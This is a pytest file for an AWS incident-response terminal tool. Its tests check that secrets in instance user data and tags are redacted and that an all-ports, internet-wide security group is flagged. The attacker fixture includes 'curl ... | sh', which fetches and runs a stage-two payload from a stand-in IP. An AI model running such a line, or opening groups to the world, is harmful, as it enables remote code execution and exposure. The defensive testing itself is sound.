"""What an attacker sets up during the session, as the responder finds it (Textual
Pilot, 80x24): each test launches its instance or group on the demo account with boto3
first, as the attacker would, then reads it by keys."""

from __future__ import annotations

from pathlib import Path

import pytest

from awsir_tui.demo.server import DemoServer
from awsir_tui.ui.ec2_groups import SecurityGroupsView, SecurityGroupView
from awsir_tui.ui.ec2_instances import InstancesView
from tests.helpers_app import screen_text, wait_for
from tests.helpers_ec2 import (
    first_row_styles,
    ids,
    last_notification,
    launch,
    loaded_list,
    loaded_sheet,
    make_app,
    move_to,
    open_instance_details,
    sheet,
    type_filter,
)

SECRET_KEY = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
USER_DATA = (
    "#!/bin/bash\n"
    "export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE\n"
    f"export AWS_SECRET_ACCESS_KEY={SECRET_KEY}\n"
    "DB_PASSWORD=hunter2supersecret\n"
    "cat > /root/.ssh/id_rsa <<KEY\n"
    "-----BEGIN RSA PRIVATE KEY-----\n"
    "MIIEowIBAAKCAQEAprivatekeybody\n"
    "-----END RSA PRIVATE KEY-----\n"
    "KEY\n"
    "curl -s http://198.51.100.7/stage2 | sh\n"
)


async def test_user_data_secrets_are_redacted_on_screen_and_when_marked(
    demo: DemoServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The secret key, the password and a private key in user data never reach the
    screen, `m` nor its notification; `m` on a script line keeps it as `other` (it read
    as a user agent)."""
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path))
    instance_id = launch(demo, demo.regions[-1], UserData=USER_DATA)
    app = make_app(demo)
    async with app.run_test(size=(80, 24)) as pilot:
        await open_instance_details(pilot, app, instance_id)
        await wait_for(pilot, lambda: app.case is not None, "case open")
        rows = "\n".join(sheet(app))
        assert "2 export AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE" in rows  # the ID stays
        for secret in (SECRET_KEY, "hunter2supersecret", "privatekeybody"):
            assert secret not in rows

        await move_to(pilot, app, "3 export")
        assert SECRET_KEY not in screen_text(app)
        assert "AWS_SECRET_ACCESS_KEY=**REDACTED**" in screen_text(app)
        await pilot.press("m")
        notice = last_notification(app)
        assert notice == "marked other export AWS_SECRET_ACCESS_KEY=**REDACTED**", notice

        await move_to(pilot, app, "4 DB_PASSWORD")
        await pilot.press("m")
        assert last_notification(app) == "marked other DB_PASSWORD=**REDACTED**"
        assert app.case is not None
        kinds = {value: kind for kind, value in app.case.case.indicators}
        assert kinds["export AWS_SECRET_ACCESS_KEY=**REDACTED**"] == "other"
        assert not [value for value in kinds if "hunter2" in value or SECRET_KEY in value]


async def test_a_secret_in_a_tag_is_redacted_in_the_list_too(demo: DemoServer) -> None:
    instance_id = launch(demo, demo.regions[-1], TagSpecifications=[{
        "ResourceType": "instance",
        "Tags": [{"Key": "Name", "Value": "db password=hunter2supersecret"}]}])
    app = make_app(demo)
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded_list(pilot, app, InstancesView)
        await type_filter(pilot, f"id:{instance_id}")
        assert ids(app, "Name") == ["db password=**REDACTED**"]
        assert "hunter2" not in screen_text(app)


async def test_a_group_that_splits_the_internet_across_rules_is_open(demo: DemoServer) -> None:
    """tcp/all from 0.0.0.0/1 and from 128.0.0.0/1 is tcp/all from anywhere: red in the
    list, its ports under Open to world, found by open:*, OPEN on its page."""
    region = demo.regions[-1]
    client = demo.client("ec2", region)
    vpc = client.describe_vpcs()["Vpcs"][0]["VpcId"]
    group_id = client.create_security_group(
        GroupName="split-halves", Description="halves", VpcId=vpc)["GroupId"]
    client.authorize_security_group_ingress(GroupId=group_id, IpPermissions=[
        {"IpProtocol": "tcp", "FromPort": 0, "ToPort": 65535,
         "IpRanges": [{"CidrIp": "0.0.0.0/1"}, {"CidrIp": "128.0.0.0/1"}]}])
    app = make_app(demo, first_view="sg")
    async with app.run_test(size=(80, 24)) as pilot:
        await loaded_list(pilot, app, SecurityGroupsView)
        await type_filter(pilot, "open:* name:split")
        assert ids(app) == [group_id]
        assert ids(app, "Open to world") == ["tcp/all"]
        assert all(style.color and style.color.name == "red"
                   for style in first_row_styles(app)), "world-open is red"
        await pilot.press("enter")
        await loaded_sheet(pilot, app, SecurityGroupView)
        rows = sheet(app)
        assert "OPEN tcp/all from 0.0.0.0/1" in rows and "OPEN tcp/all from 128.0.0.0/1" in rows
